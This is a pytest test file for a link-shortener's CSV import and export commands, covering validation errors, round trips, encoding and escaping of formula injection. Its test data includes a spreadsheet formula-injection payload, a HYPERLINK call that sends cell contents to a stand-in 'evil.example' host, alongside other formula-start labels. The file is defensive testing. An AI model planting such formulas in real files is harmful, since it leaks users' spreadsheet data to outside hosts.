"""`xqr links import` / `export`: CSV through the same service as the API."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncConnection

from tests.conftest import Account
from tests.support.server import run_xqr, xqr_env
from xqr.db.engine import make_engine


@pytest.fixture
def env(db_url: str, tmp_path: Path) -> dict[str, str]:
    return xqr_env(db_url, tmp_path / "data")


def _workspace(env: dict[str, str], name: str = "Acme") -> str:
    result = run_xqr(env, "admin", "workspace", "create", "--name", name, "--plan", "pro", "--json")
    assert result.returncode == 0, result.stderr
    return str(json.loads(result.stdout)["id"])


@asynccontextmanager
async def _session(path: Path) -> AsyncIterator[AsyncConnection]:
    engine = make_engine(f"sqlite+aiosqlite:///{path}")
    try:
        async with engine.connect() as conn:
            yield conn
    finally:
        await engine.dispose()


def _export(env: dict[str, str], workspace: str) -> list[dict[str, str]]:
    result = run_xqr(env, "links", "export", "--workspace", workspace)
    assert result.returncode == 0, result.stderr
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_import_creates_valid_rows_and_reports_the_others_by_line(
    env: dict[str, str], tmp_path: Path
) -> None:
    workspace = _workspace(env)
    source = tmp_path / "links.csv"
    source.write_text(
        "url,custom_slug,labels,expires_at,routing_rules\n"
        "https://example.com/a,spring-sale,poster|2026,,\n"
        'https://example.com/b,,,2099-01-01T00:00:00Z,"[{""destination"": ""https://example.de"",'
        ' ""conditions"": {""countries"": [""DE""]}}]"\n'
        "ftp://example.com/c,,,,\n"
        "https://example.com/d,spring-sale,,,\n"
        "https://example.com/e,,,,{not json\n"
    )
    result = run_xqr(env, "links", "import", str(source), "--workspace", workspace)
    assert result.returncode == 1
    assert "Created 2 link(s); 3 row(s) failed." in result.stdout
    assert "line 4: VALIDATION_ERROR" in result.stderr
    assert "line 5: SLUG_TAKEN" in result.stderr
    assert "line 6: VALIDATION_ERROR: routing_rules is not valid JSON" in result.stderr

    rows = {row["url"]: row for row in _export(env, workspace)}
    assert set(rows) == {"https://example.com/a", "https://example.com/b"}
    assert rows["https://example.com/a"]["custom_slug"] == "spring-sale"
    assert rows["https://example.com/a"]["labels"] == "poster|2026"
    assert rows["https://example.com/b"]["expires_at"] == "2099-01-01T00:00:00.000Z"
    rules = json.loads(rows["https://example.com/b"]["routing_rules"])
    assert rules[0]["destination"] == "https://example.de"


def test_export_then_import_round_trips_into_another_instance(
    env: dict[str, str], tmp_path: Path, db_url: str
) -> None:
    workspace = _workspace(env)
    source = tmp_path / "in.csv"
    source.write_text("url,labels\nhttps://example.com/1,a|b\nhttps://example.com/2,\n")
    assert run_xqr(env, "links", "import", str(source), "--workspace", workspace).returncode == 0
    exported = tmp_path / "out.csv"
    result = run_xqr(env, "links", "export", "--workspace", workspace, "-o", str(exported))
    assert result.returncode == 0 and "Exported 2 link(s)" in result.stdout
    before = {(r["url"], r["custom_slug"], r["labels"]) for r in _export(env, workspace)}

    other = xqr_env(f"sqlite+aiosqlite:///{tmp_path / 'other.db'}", tmp_path / "other")
    target = _workspace(other, "Copy")
    assert run_xqr(other, "links", "import", str(exported), "--workspace", target).returncode == 0
    after = {(r["url"], r["custom_slug"], r["labels"]) for r in _export(other, target)}
    assert after == before


def test_import_refuses_a_file_without_a_url_column(env: dict[str, str], tmp_path: Path) -> None:
    workspace = _workspace(env)
    source = tmp_path / "bad.csv"
    source.write_text("destinationz,slug\nhttps://example.com,abc\n")
    result = run_xqr(env, "links", "import", str(source), "--workspace", workspace)
    assert result.returncode != 0
    assert "url" in result.stderr


TRICKY_LABELS = [
    '=HYPERLINK("https://evil.example/"&A1,"click")',
    "+cmd",
    "-10%",
    "@SUM(A1:A9)",
    "a|b",
    "back\\slash\\|pipe",
    "'quoted",
    "''=already quoted",
    'comma, "quotes"',
    "ünïcødé 🎉",
]
TRICKY_URLS = [
    'https://example.com/a,b?q="x"&r=1|2',
    "https://例え.jp/パス?q=ü",
    "https://example.com/?=x#frag",
    "https://example.com/%E2%82%AC;x=1",
]


async def _tricky_links(client: httpx.AsyncClient, account: Account) -> list[dict[str, Any]]:
    created = []
    for index, url in enumerate(TRICKY_URLS):
        labels = TRICKY_LABELS if index == 0 else TRICKY_LABELS[index : index + 1]
        response = await client.post(
            "/api/v1/links", json={"url": url, "labels": labels}, headers=account.headers
        )
        assert response.status_code == 201, response.text
        created.append(response.json()["data"])
    for label in ("=1+1", "+1", "-1", "@A1"):  # each formula start at the start of a cell
        response = await client.post(
            "/api/v1/links",
            json={"url": "https://example.com/formula", "labels": [label]},
            headers=account.headers,
        )
        assert response.status_code == 201, response.text
        created.append(response.json()["data"])
    return created


async def test_export_never_writes_a_cell_a_spreadsheet_would_run(
    env: dict[str, str], tmp_path: Path, client: httpx.AsyncClient, account: Account
) -> None:
    await _tricky_links(client, account)
    exported = tmp_path / "out.csv"
    result = run_xqr(
        env, "links", "export", "--workspace", account.workspace_id, "-o", str(exported)
    )
    assert result.returncode == 0, result.stderr
    text = exported.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + 8
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    labels = {row[2] for row in rows[1:]}
    assert "'=1+1" in labels and "'+1" in labels and "'-1" in labels and "'@A1" in labels
    first = next(row for row in rows[1:] if row[0] == TRICKY_URLS[0])
    assert first[2].startswith("'=HYPERLINK(")
    assert "|a\\|b|back\\\\slash\\\\\\|pipe|" in first[2]
    # What the file holds, byte for byte, for one of them (csv quoting included).
    assert '"\'=HYPERLINK(""https://evil.example/""&A1,""click"")|' in text


async def test_export_then_import_keeps_tricky_labels_and_destinations(
    env: dict[str, str], tmp_path: Path, client: httpx.AsyncClient, account: Account
) -> None:
    originals = {
        link["short_code"]: (link["destination"], link["labels"])
        for link in await _tricky_links(client, account)
    }
    exported = tmp_path / "out.csv"
    result = run_xqr(
        env, "links", "export", "--workspace", account.workspace_id, "-o", str(exported)
    )
    assert result.returncode == 0, result.stderr

    other_db = tmp_path / "other.db"
    other = xqr_env(f"sqlite+aiosqlite:///{other_db}", tmp_path / "other")
    target = _workspace(other, "Copy")
    result = run_xqr(other, "links", "import", str(exported), "--workspace", target)
    assert result.returncode == 0, result.stdout + result.stderr
    async with _session(other_db) as conn:
        rows = (await conn.execute(text("SELECT code, destination, labels FROM links"))).all()
    copied = {
        code: (destination, labels if isinstance(labels, list) else json.loads(labels))
        for code, destination, labels in rows
    }
    assert copied == originals


def test_import_refuses_a_file_that_is_not_utf8(env: dict[str, str], tmp_path: Path) -> None:
    workspace = _workspace(env)
    source = tmp_path / "latin1.csv"
    source.write_bytes("url,labels\nhttps://example.com,café\n".encode("latin-1"))
    result = run_xqr(env, "links", "import", str(source), "--workspace", workspace)
    assert result.returncode == 1
    assert "not UTF-8" in result.stderr and "Traceback" not in result.stderr


def test_link_controls_import_from_flat_columns_and_export_without_the_password(
    env: dict[str, str], tmp_path: Path
) -> None:
    workspace = _workspace(env)
    source = tmp_path / "controls.csv"
    source.write_text(
        "url,password,expired_url,utm_source,utm_campaign,preview_title,preview_image_url\n"
        "https://example.com/p,open sesame,https://example.com/over,qr,spring,Spring sale,"
        "https://cdn.example/s.png\n"
        "https://example.com/q,,,,,,http://cdn.example/not-https.png\n"
    )
    result = run_xqr(env, "links", "import", str(source), "--workspace", workspace)
    assert "Created 1 link(s); 1 row(s) failed." in result.stdout
    assert "line 3: VALIDATION_ERROR: preview.image_url" in result.stderr
    [row] = _export(env, workspace)
    assert "password" not in row and "open sesame" not in json.dumps(row)
    assert row["has_password"] == "true"
    assert row["expired_url"] == "https://example.com/over"
    assert (row["utm_source"], row["utm_campaign"], row["utm_medium"]) == ("qr", "spring", "")
    assert row["preview_title"] == "Spring sale"
    assert row["preview_image_url"] == "https://cdn.example/s.png"
    assert row["health"] == "unknown"
